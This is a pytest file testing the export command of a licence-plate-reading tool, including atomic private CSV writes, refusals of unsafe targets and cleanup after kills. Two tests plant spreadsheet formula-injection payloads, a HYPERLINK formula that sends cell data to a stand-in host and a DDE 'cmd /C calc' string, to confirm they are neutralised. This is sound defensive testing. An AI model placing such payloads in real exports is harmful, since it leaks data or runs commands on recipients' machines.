"""`alpr export` from the SQLite log: the CSV replaces the file at --csv only once it is whole, and the
log named by --sqlite is read, never changed but for the export's record (tests/common/test_export_record.py);
an export without a reason is refused (no model, no video: a log written here)."""

import csv
import os
import sqlite3
import stat
import time
from pathlib import Path

import cv2
import numpy as np
import pytest

from alpr.cli import main
from common.frame_store import frame_key
from common.jobs import FrameRef
from common.plate_log import SqlitePlateLog
from common.sighting_log import SqliteSightingLog
from common.types import PlateCandidate, PlateRead


def write_log(path: Path, plates: list[str]) -> Path:
    """An SQLite log holding one read of each plate, as `alpr run` writes it."""
    log = SqlitePlateLog(path)
    frames = []
    for index, plate in enumerate(plates):
        frame = FrameRef(frame_id=f"cam:1:{index}", camera_id="cam", seq=index, frame_index=index,
                         captured_at_s=time.time(), source_time_s=float(index), key=frame_key(f"cam:1:{index}"),
                         region="us")  # fmt: skip
        frames.append((frame, [PlateRead((0.0, 0.0, 90.0, 30.0), 0.9, (PlateCandidate(plate, 0.95, "us"),))]))
    log.record_many(frames)
    log.close()
    return path


def export(capsys: pytest.CaptureFixture[str], *args: str | Path) -> tuple[int, str]:
    code = main(["export", "--reason", "case 1", *(str(a) for a in args)])
    return code, capsys.readouterr().err.strip()


def mode(path: Path) -> int:
    return stat.S_IMODE(path.lstat().st_mode)


def test_an_export_without_a_reason_is_refused_and_nothing_exported_or_recorded(tmp_path, capsys):
    log = write_log(tmp_path / "reads.sqlite", ["KPX4721"])
    with pytest.raises(SystemExit) as exited:
        main(["export", "--csv", str(tmp_path / "reads.csv"), "--sqlite", str(log)])
    assert (
        exited.value.code == 2 and "one of the arguments --reason --reason-file is required" in capsys.readouterr().err
    )
    for refused, flag in ((["--reason", "x"], "--reason"), (["--reason", "case\n1"], "--reason"),
                          (["--reason", "case 1", "--by", "clerk\t7"], "--by")):  # fmt: skip
        code = main(["export", "--csv", str(tmp_path / "reads.csv"), *refused, "--sqlite", str(log)])
        error = capsys.readouterr().err.strip().splitlines()
        assert code == 2 and len(error) == 1 and error[0].startswith(f"alpr: error: {flag}:"), error
    assert sorted(p.name for p in tmp_path.iterdir()) == ["reads.sqlite"]
    with sqlite3.connect(log) as db:
        assert db.execute("SELECT name FROM sqlite_master WHERE name = 'plate_exports'").fetchall() == []


def test_the_log_named_as_the_csv_is_refused_and_kept_whole(tmp_path, capsys):
    """`--csv reads.sqlite --sqlite reads.sqlite` truncated the log (O_TRUNC) before reading a row."""
    log = write_log(tmp_path / "reads.sqlite", ["KPX4721", "ABC1234"])
    before = log.read_bytes()
    code, err = export(capsys, "--csv", log, "--sqlite", log)
    assert code == 2 and err.startswith("alpr: error:") and "is the SQLite log itself" in err, err
    assert log.read_bytes() == before
    os.link(log, tmp_path / "same.csv")  # the same file by another name
    code, err = export(capsys, "--csv", tmp_path / "same.csv", "--sqlite", log)
    assert code == 2 and "is the SQLite log itself" in err, err
    with sqlite3.connect(log) as db:
        assert db.execute("SELECT count(*) FROM plate_reads").fetchone() == (2,)


def test_a_file_sqlite_keeps_beside_the_log_named_as_the_csv_is_refused(tmp_path, capsys):
    """`--csv reads.sqlite-wal` replaced SQLite's write-ahead log with the CSV, and the log's next close
    deleted it: the export recorded as made, its file gone (a review). So for -shm and -journal, there
    or not (SQLite makes them), and the write-ahead log by another name (a hard link)."""
    log = write_log(tmp_path / "reads.sqlite", ["KPX4721", "ABC1234"])
    for end in ("-wal", "-shm", "-journal"):
        code, err = export(capsys, "--csv", f"{log}{end}", "--sqlite", log)
        assert code == 2 and f"is reads.sqlite{end}, a file SQLite keeps beside the log" in err, err
        assert not Path(f"{log}{end}").exists()
    writer = sqlite3.connect(log)  # a run still writing: its pages in the write-ahead log, not yet in the log
    try:
        writer.execute("DELETE FROM plate_reads WHERE 0")
        writer.execute("CREATE TABLE pending (x)")
        writer.commit()
        wal = Path(f"{log}-wal")
        before = wal.read_bytes()
        os.link(wal, tmp_path / "wal.csv")
        for named in (wal, tmp_path / "wal.csv"):
            code, err = export(capsys, "--csv", named, "--sqlite", log)
            assert code == 2 and "a file SQLite keeps beside the log" in err, err
        assert wal.read_bytes() == before
    finally:
        writer.close()
    with sqlite3.connect(log) as db:
        assert db.execute("SELECT name FROM sqlite_master WHERE name = 'plate_exports'").fetchall() == []
    assert export(capsys, "--csv", tmp_path / "reads.csv", "--sqlite", log)[0] == 0  # a positive control
    assert len(list(csv.DictReader((tmp_path / "reads.csv").open()))) == 2


def test_an_export_that_fails_leaves_the_file_at_csv_as_it_was(tmp_path, capsys):
    """A log whose reads cannot be selected (a foreign schema): the earlier CSV was emptied first."""
    log = tmp_path / "foreign.sqlite"
    with sqlite3.connect(log) as db:
        db.execute("CREATE TABLE plate_reads (id INTEGER PRIMARY KEY, camera_id, captured_at, plate_text)")
    earlier = tmp_path / "reads.csv"
    earlier.write_text("an earlier export\n")
    code, err = export(capsys, "--csv", earlier, "--sqlite", log)
    assert code == 2 and err.startswith("alpr: error:"), err
    assert earlier.read_text() == "an earlier export\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["foreign.sqlite", "reads.csv"]  # no partial file left


def test_an_export_replaces_the_file_at_csv_whole_and_private(tmp_path, capsys):
    log = write_log(tmp_path / "reads.sqlite", ["KPX4721"])
    target = tmp_path / "reads.csv"
    target.write_text("an earlier, longer export\n" * 100)
    target.chmod(0o644)
    code, _ = export(capsys, "--csv", target, "--sqlite", log)
    assert code == 0
    assert [row["plate_text"] for row in csv.DictReader(target.open())] == ["KPX4721"]
    assert mode(target) == 0o600


def test_a_link_planted_at_the_csv_name_is_refused_and_its_target_untouched(tmp_path, capsys):
    log = write_log(tmp_path / "reads.sqlite", ["KPX4721"])
    target = tmp_path / "elsewhere.txt"
    target.write_text("not yours\n")
    (tmp_path / "reads.csv").symlink_to(target)
    code, err = export(capsys, "--csv", tmp_path / "reads.csv", "--sqlite", log)
    assert code == 2 and "symbolic link" in err, err
    assert target.read_text() == "not yours\n" and (tmp_path / "reads.csv").is_symlink()


def test_a_csv_in_a_folder_that_does_not_exist_is_one_clear_error(tmp_path, capsys):
    """It failed with a bare FileNotFoundError on the partial file (a privacy audit)."""
    log = write_log(tmp_path / "reads.sqlite", ["KPX4721"])
    code, err = export(capsys, "--csv", tmp_path / "missing" / "reads.csv", "--sqlite", log)
    assert code == 2 and err.endswith(f"{tmp_path / 'missing'} is not a folder: name a file in a folder that exists")


@pytest.mark.parametrize("kind", ["folder", "video"])
def test_export_from_what_is_not_an_sqlite_log_is_refused_and_its_mode_kept(kind, tmp_path, capsys):
    """`alpr export --sqlite some.mp4` (meant only to read) made the video 0600; a folder became 0600:
    no longer enterable."""
    named = tmp_path / ("logs" if kind == "folder" else "clip.mp4")
    if kind == "folder":
        named.mkdir()
        named.chmod(0o755)
    else:
        named.write_bytes(b"\x00\x00\x00\x18ftypmp42" + bytes(200))
        named.chmod(0o644)
    before = mode(named)
    code, err = export(capsys, "--csv", tmp_path / "x.csv", "--sqlite", named)
    assert code == 2 and err.startswith("alpr: error:"), err
    assert ("not a regular file" if kind == "folder" else "not an SQLite database") in err, err
    assert mode(named) == before
    assert not (tmp_path / "x.csv").exists()


def test_alpr_run_with_a_folder_as_its_sqlite_log_is_refused_and_the_folder_kept(tmp_path, capsys):
    clip = tmp_path / "clip.mp4"
    writer = cv2.VideoWriter(str(clip), cv2.VideoWriter.fourcc(*"mp4v"), 5.0, (64, 48))
    for _ in range(3):
        writer.write(np.zeros((48, 64, 3), np.uint8))
    writer.release()
    folder = tmp_path / "logs"
    folder.mkdir()
    folder.chmod(0o755)
    code = main(["run", str(clip), "--sqlite", str(folder), "--out", str(tmp_path / "out"), "--no-progress"])
    err = capsys.readouterr().err.strip()
    assert code == 2 and err.startswith("alpr: error:") and "not a regular file" in err, err
    assert mode(folder) == 0o755


def test_the_sqlite_file_named_is_read_though_the_chains_database_url_is_set(tmp_path, capsys, monkeypatch):
    """ALPR_DATABASE_URL exported in the operator's shell (the chain's set-up) had `alpr export --sqlite`
    and `alpr search --sqlite` read the whole city's log instead of the file named."""
    monkeypatch.setenv("ALPR_DATABASE_URL", "postgresql://alpr@127.0.0.1:1/city")  # nothing listens there
    log = write_log(tmp_path / "demo.sqlite", ["KPX4721"])
    SqliteSightingLog(log).close()  # its sightings table, as `alpr run` makes it
    code, err = export(capsys, "--csv", tmp_path / "out.csv", "--sqlite", log)
    assert code == 0, err
    with (tmp_path / "out.csv").open() as handle:
        assert [row["plate_text"] for row in csv.DictReader(handle)] == ["KPX4721"]
    assert main(["search", "KPX4721", "--reason", "case 1", "--sqlite", str(log)]) == 0, capsys.readouterr().err
    code, err = export(capsys, "--csv", tmp_path / "two.csv", "--sqlite", log,
                       "--database-url", "postgresql://alpr@127.0.0.1:1/city")  # fmt: skip
    assert code == 2 and "--sqlite and --database-url name two logs" in err and not (tmp_path / "two.csv").exists()


def test_no_exported_cell_is_a_formula_when_a_spreadsheet_opens_it(tmp_path, capsys):
    """The chain writes no such text, but a login with the workers' rights can: a camera named
    `=HYPERLINK(...)` sent the export's other cells to a web address when the CSV was opened."""
    log = write_log(tmp_path / "reads.sqlite", ["KPX4721", "ABC123"])
    with sqlite3.connect(log) as connection:
        connection.execute("UPDATE plate_reads SET camera_id = '=HYPERLINK(\"http://x.example/?\"&G2,\"cam 7\")',"
                           " plate_text = '@SUM(1+1)*cmd|'' /C calc''!A0' WHERE plate_text = 'KPX4721'")  # fmt: skip
        connection.execute("UPDATE plate_reads SET camera_id = '-2+3', plate_text = '+1' WHERE plate_text = 'ABC123'")
    connection.close()
    code, err = export(capsys, "--csv", tmp_path / "out.csv", "--sqlite", log)
    assert code == 0, err
    with (tmp_path / "out.csv").open() as handle:
        rows = list(csv.DictReader(handle))
    cells = [row[name] for row in rows for name in ("camera_id", "plate_text")]
    assert cells == ['\'=HYPERLINK("http://x.example/?"&G2,"cam 7")', "'@SUM(1+1)*cmd|' /C calc'!A0", "'-2+3", "'+1"]
    assert all(not row["x1"].startswith("'") for row in rows)  # numbers as they are


def test_no_formula_begins_a_cell_where_a_spreadsheet_splits_a_cell_of_ours(tmp_path, capsys):
    """Excel in a locale whose list separator is `;` (German, French, most of Europe) opens a CSV file split
    at `;`, and at every line break, quoted or not, where a field does not begin with a quote: a camera
    named `cam;=HYPERLINK(...)` began a cell of its own with the formula, past the quote that guarded only
    the start of ours (a review). A formula's start after such a split is quoted as at a cell's start."""
    log = write_log(tmp_path / "reads.sqlite", ["KPX4721", "ABC123"])
    with sqlite3.connect(log) as connection:
        connection.execute("UPDATE plate_reads SET camera_id = 'cam;=HYPERLINK(\"http://x.example/?\"&G2,\"7\")',"
                           " plate_text = 'AB; \"@SUM(1)' WHERE plate_text = 'KPX4721'")  # fmt: skip
        connection.execute("UPDATE plate_reads SET camera_id = 'cam', plate_text = 'AB' || char(10) || '-2+3'"
                           " || char(13) || char(10) || char(9) || '+1' WHERE plate_text = 'ABC123'")  # fmt: skip
    connection.close()
    code, err = export(capsys, "--csv", tmp_path / "out.csv", "--sqlite", log)
    assert code == 0, err
    text = (tmp_path / "out.csv").read_text()
    pieces = [cell for line in text.splitlines() for cell in line.split(";")]  # as a `;` spreadsheet cuts it
    assert [piece for piece in pieces if piece.lstrip(' "').startswith(("=", "+", "-", "@", "\t", "\r"))] == []
    with (tmp_path / "out.csv").open(newline="") as handle:  # read as CSV, each cell whole, the quotes added
        rows = list(csv.DictReader(handle))
    assert [(row["camera_id"], row["plate_text"]) for row in rows] == [
        ('cam;\'=HYPERLINK("http://x.example/?"&G2,"7")', "AB;' \"@SUM(1)"),
        ("cam", "AB\n'-2+3\r\n'\t'+1"),
    ]


def test_a_dash_for_standard_output_is_refused_before_anything_is_recorded(tmp_path, capsys, monkeypatch):
    """`--csv -` wrote a file named `-` in the working directory and said "wrote 1 reads to -" (a privacy
    review): an export is a file of mode 0600, and standard output would pass the plates on unprotected."""
    log = write_log(tmp_path / "reads.sqlite", ["KPX4721"])
    monkeypatch.chdir(tmp_path)
    code, err = export(capsys, "--csv", "-", "--sqlite", log)
    assert code == 2 and err.startswith("alpr: error: --csv: `-` is no file: an export is a file") and "0600" in err
    assert capsys.readouterr().out == "" and not (tmp_path / "-").exists()
    with sqlite3.connect(log) as connection:  # no record (its table is made with the first)
        tables = {row[0] for row in connection.execute("SELECT name FROM sqlite_master")}
        assert (
            "plate_exports" not in tables or not connection.execute("SELECT count(*) FROM plate_exports").fetchone()[0]
        )
    connection.close()


def test_a_file_named_with_a_line_break_is_refused_before_anything_is_recorded(tmp_path, capsys):
    """The record names the file: `a\nsearched_by chief.csv` wrote a line of its own into it."""
    log = write_log(tmp_path / "reads.sqlite", ["KPX4721"])
    code, err = export(capsys, "--csv", tmp_path / "a\nexported_by chief.csv", "--sqlite", log)
    assert code == 2 and err.startswith("alpr: error: --csv: ") and len(err.splitlines()) == 1
    with sqlite3.connect(log) as connection:  # no record (its table is made with the first)
        tables = {row[0] for row in connection.execute("SELECT name FROM sqlite_master")}
        assert (
            "plate_exports" not in tables or connection.execute("SELECT count(*) FROM plate_exports").fetchone()[0] == 0
        )
    connection.close()


STOPPED_MIDWAY = """
import os, signal, sys
import common.plate_log as plate_log
{prelude}
write_csv = plate_log.write_csv
def stopped_midway(rows, columns, target):  # the real signal, once `row` rows are written
    def rows_then_signal():
        for index, row in enumerate(rows):
            if index == {row}:
                os.kill(os.getpid(), signal.{signal})
            yield row
    return write_csv(rows_then_signal(), columns, target)
plate_log.write_csv = stopped_midway
from alpr.cli import main
sys.exit(main(["export", "--reason", "case 1", "--csv", sys.argv[1], "--sqlite", sys.argv[2]]))
"""


def test_an_export_stopped_by_sigterm_leaves_no_copy_of_the_log_behind(tmp_path):
    """SIGTERM's default killed the process outright: the hidden partial CSV beside --csv stayed for good."""
    import signal
    import subprocess
    import sys

    log = write_log(tmp_path / "reads.sqlite", ["KPX4721", "ABC123", "XYZ789"])
    out = tmp_path / "out"
    out.mkdir()
    script = STOPPED_MIDWAY.format(prelude="", row=1, signal="SIGTERM")
    done = subprocess.run([sys.executable, "-c", script, str(out / "reads.csv"), str(log)], capture_output=True,
                          text=True, timeout=60, cwd=Path(__file__).parents[2])  # fmt: skip
    assert done.returncode == 128 + signal.SIGTERM, done.stderr
    assert list(out.iterdir()) == []


@pytest.mark.parametrize("nameless", [True, False])
def test_an_export_killed_outright_leaves_no_copy_of_the_rows_for_good(tmp_path, capsys, nameless):
    """SIGKILL (`kill -9`, the OOM killer) left `.big.csv.XXXXXXXX.partial` beside --csv: 12.7 MB, 119,446
    plate rows, for good (a review). Where the file system has O_TMPFILE the CSV has no name until it is
    whole, and a kill leaves nothing. Where it has not (here Python's os without O_TMPFILE, as on a kernel
    without it) the partial file stays, and the next export removes it once a minute old: only this file's
    partial files, this user's, and none touched lately (an export still writing)."""
    import signal
    import subprocess
    import sys

    log = write_log(tmp_path / "reads.sqlite", [f"KPX{n:04d}" for n in range(2000)])
    out = tmp_path / "out"
    out.mkdir()
    script = STOPPED_MIDWAY.format(prelude="" if nameless else "del os.O_TMPFILE", row=1500, signal="SIGKILL")
    killed = subprocess.run([sys.executable, "-c", script, str(out / "reads.csv"), str(log)], capture_output=True,
                            text=True, timeout=60, cwd=Path(__file__).parents[2])  # fmt: skip
    assert killed.returncode == -signal.SIGKILL, killed.stderr
    if nameless:
        assert list(out.iterdir()) == []
        return
    (partial,) = out.iterdir()
    assert partial.name.startswith(".reads.csv.") and "KPX0001" in partial.read_text()
    other, fresh = out / ".notes.csv.abcd1234.partial", out / ".reads.csv.abcd1234.partial"
    for file in (other, fresh):
        file.write_text("KPX0001\n")
    aged_s = time.time() - 120
    for file in (partial, other):
        os.utime(file, (aged_s, aged_s))
    assert export(capsys, "--csv", out / "reads.csv", "--sqlite", log)[0] == 0
    assert sorted(file.name for file in out.iterdir()) == sorted([other.name, fresh.name, "reads.csv"])


@pytest.mark.parametrize("content", ["empty", "other database"])
@pytest.mark.parametrize(
    "command",
    [["search", "KPX4721", "--reason", "case 1"], ["export", "--reason", "case 1", "--csv", "{tmp}/x.csv"],
     ["db", "prune"]],
)  # fmt: skip
def test_a_file_that_is_no_run_log_is_refused_by_search_export_and_prune_and_left_as_it_was(
    command, content, tmp_path, capsys
):
    """`--sqlite` naming a 0-byte file or another program's database had the log's tables written into it,
    then a raw `OperationalError: no such table` (a review)."""
    named = tmp_path / "notes.sqlite"
    named.touch()
    if content == "other database":
        with sqlite3.connect(named) as other:
            other.execute("CREATE TABLE notes (body TEXT)")
        other.close()
    before = named.read_bytes()
    code = main([*(part.format(tmp=tmp_path) for part in command), "--sqlite", str(named)])
    err = capsys.readouterr().err.strip()
    assert code == 2 and err == f"alpr: error: {named} is not an alpr run log (it has none of its tables):" \
        " --sqlite or ALPR_SQLITE_PATH names the SQLite log file", err  # fmt: skip
    assert named.read_bytes() == before and sorted(p.name for p in tmp_path.iterdir()) == ["notes.sqlite"]
